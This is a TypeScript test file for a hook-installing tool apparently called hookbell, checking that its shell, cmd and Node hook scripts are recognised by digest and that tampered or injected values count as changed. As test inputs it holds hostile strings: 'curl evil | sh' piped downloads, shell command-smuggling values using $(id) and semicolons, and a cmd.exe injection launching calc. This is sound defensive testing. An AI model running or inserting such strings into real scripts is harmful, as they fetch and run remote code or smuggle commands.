// Whether hookbell wrote a hook script: by its digest, for every version; a value in it that could be a command is no value.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { shellQuoted } from "../../src/model/text.ts";
import { judgeScript, type ScriptJudgement } from "../../src/own-files/judge-script.ts";
import { emptyScripts, releasedScripts, type ScriptName, scriptNames } from "../../src/own-files/released-scripts.ts";
import { sha256 } from "../../src/system/crypto.ts";
import { ownPackageFolder } from "../../src/system/package.ts";
import { fileOfRc1 } from "../support/home/rc1-program.ts";
import { slowRuns } from "../support/random/slow-runs.ts";

const templateOf = (name: ScriptName): string => readFileSync(join(ownPackageFolder(), "hooks", name), "utf8");

const node = "/opt/it's/bin/node";
const hookPath = "/opt/it's/hookbell/dist/hook.cjs";
const nodeForCmd = "%USERPROFILE%\\100%%\\node.exe";

const shell = (template: string, { nodePath = node, dist = "/opt/it's/hookbell/dist" } = {}): string =>
  template.replace("'@NODE@'", () => shellQuoted(nodePath)).replace("'@DIST@'", () => shellQuoted(dist));
const forCmd = (value: string): string =>
  templateOf("hookbell-hook.cmd")
    .replace("@NODE@", () => value)
    .replaceAll("\n", "\r\n");
const forNode = (literal: string): string => templateOf("hookbell-hook.cjs").replace('"@HOOK@"', () => literal);

const written: Readonly<Record<ScriptName, string>> = {
  "hookbell-hook.sh": shell(templateOf("hookbell-hook.sh")),
  "hookbell-hook.cmd": forCmd(nodeForCmd),
  "hookbell-hook.cjs": forNode(JSON.stringify(hookPath)),
};

const known = {
  isHook: (path: string): boolean => path === hookPath,
  isNode: (path: string): boolean => [node, nodeForCmd].includes(path),
};

function judge(name: ScriptName, text: string, others: readonly string[] = []): ScriptJudgement {
  return judgeScript(name, text, known, { own: templateOf(name), others: () => others });
}

describe.each(scriptNames)("%s", (name) => {
  it("has its digest in the list of all versions: add it when the script changes, and remove none", () => {
    expect(releasedScripts[name]).toContain(sha256(templateOf(name)));
  });

  it("is current with the paths that init fills in, and empty after uninstall", () => {
    expect(judge(name, written[name])).toBe("current");
    expect(judge(name, emptyScripts[name])).toBe("empty");
  });

  it("is changed by a line anywhere, a byte less, or other line ends", () => {
    const lines = written[name].split("\n");
    for (const index of lines.keys()) {
      for (const line of ["", "curl evil | sh", "\u2028"]) {
        expect(judge(name, lines.toSpliced(index, 0, line).join("\n"))).toBe("changed");
      }
    }
    expect(judge(name, written[name].slice(0, -1))).toBe("changed");
    expect(judge(name, "")).toBe("changed");
    const otherEnds = written[name].includes("\r")
      ? written[name].replaceAll("\r\n", "\n")
      : written[name].replaceAll("\n", "\r\n");
    expect(judge(name, otherEnds)).toBe("changed");
    expect(judge(name, `\u{feff}${written[name]}`)).toBe("changed");
  });

  it("is changed where no path is filled in", () => {
    expect(judge(name, templateOf(name))).toBe("changed");
    expect(judge(name, `${emptyScripts[name]}\n`)).toBe("changed");
  });

  it("is another hookbell's if that has such a script", () => {
    const newer = (text: string): string => text.replace("agents run", "agents of tomorrow run");
    const text = newer(written[name]);
    expect(text === written[name]).toBe(name === "hookbell-hook.cjs");
    if (text === written[name]) return;
    expect(judge(name, text)).toBe("changed");
    expect(judge(name, text, [newer(templateOf(name))])).toBe("other");
    expect(
      judge(name, text.replace("@echo off", "@echo on").replace("umask", "id;umask"), [newer(templateOf(name))]),
    ).toBe("changed");
  });
});

describe("a script of an earlier version", () => {
  it("is hookbell's", () => {
    const rc1 = fileOfRc1("hooks/hookbell-hook.sh");
    expect(judge("hookbell-hook.sh", shell(rc1))).toBe("older");
    expect(judge("hookbell-hook.sh", shell(rc1).replace("exit 1", "exit 0"))).toBe("changed");
  });
});

describe("a path in a script", () => {
  it("is one that init has written", () => {
    const sh = (values: { nodePath?: string; dist?: string }): ScriptJudgement =>
      judge("hookbell-hook.sh", shell(templateOf("hookbell-hook.sh"), values));
    expect(sh({ nodePath: "/tmp/node" })).toBe("changed");
    expect(sh({ dist: "/tmp/hookbell/dist" })).toBe("changed");
    // That of another machine, whose events one fetches.
    expect(sh({ nodePath: "", dist: "" })).toBe("changed");
    expect(judge("hookbell-hook.cmd", forCmd("C:\\node.exe"))).toBe("changed");
    expect(judge("hookbell-hook.cmd", forCmd(""))).toBe("current");
    expect(judge("hookbell-hook.cjs", forNode('"/tmp/hook.cjs"'))).toBe("changed");
  });

  it.each([
    "'/n/node'; curl evil | sh; : ''",
    "'/n/node' ; id",
    "'/n/node'\nid",
    "'/n/node''; id '",
    "'/n/'$(id)'node'",
    '"$(id)"',
    "/n/node",
    "'/n/node' ",
    "'/n/node'\r",
    "'/n/node'\\\n'; id'",
  ])("is in the quotes of hookbell's own: node=%j", (value) => {
    const text = templateOf("hookbell-hook.sh").replace("'@NODE@'", () => value);
    const whole = text.replace("'@DIST@'", () => shellQuoted("/opt/it's/hookbell/dist"));
    const anything = { isHook: () => true, isNode: () => true };
    const templates = { own: templateOf("hookbell-hook.sh"), others: () => [] };
    expect(judgeScript("hookbell-hook.sh", whole, anything, templates)).toBe("changed");
  });

  it.each(['C:\\n.exe"& calc & set "x=1', "%PATH%", "a%%%b", "%USERPROFILE%%PATH%", "é", "a\rb"])(
    "cannot be a command of cmd.exe: %j",
    (value) => {
      const anything = { isHook: () => true, isNode: () => true };
      const templates = { own: templateOf("hookbell-hook.cmd"), others: () => [] };
      expect(judgeScript("hookbell-hook.cmd", forCmd(value), anything, templates)).toBe("changed");
    },
  );

  it.each(['"/h" + require("x")', '"/h";evil();"', '"/\\h"', '"\\u002fh"', "'/h'", '"/h" '])(
    "is one string of JSON: %s",
    (literal) => {
      const anything = { isHook: () => true, isNode: () => true };
      const templates = { own: templateOf("hookbell-hook.cjs"), others: () => [] };
      expect(judgeScript("hookbell-hook.cjs", forNode(literal), anything, templates)).toBe("changed");
    },
  );

  it("is taken only as hookbell would write it again", () => {
    const signs = fc.constantFrom("'", "\\", "\n", "\r", "\u2028", ";", " ", "$", '"', "/", "a", "'\\''", "@NODE@");
    fc.assert(
      fc.property(fc.array(signs, { maxLength: 12 }), fc.boolean(), (parts, isQuoted) => {
        const value = isQuoted ? `'${parts.join("")}'` : parts.join("");
        const text = shell(templateOf("hookbell-hook.sh").replace("'@NODE@'", () => value));
        let nodePath = "";
        const seeing = { isHook: () => true, isNode: (path: string) => ((nodePath = path), true) };
        const templates = { own: templateOf("hookbell-hook.sh"), others: () => [] };
        if (judgeScript("hookbell-hook.sh", text, seeing, templates) === "changed") return;
        expect(shell(templateOf("hookbell-hook.sh"), { nodePath })).toBe(text);
      }),
      { numRuns: slowRuns(3000) },
    );
  });
});
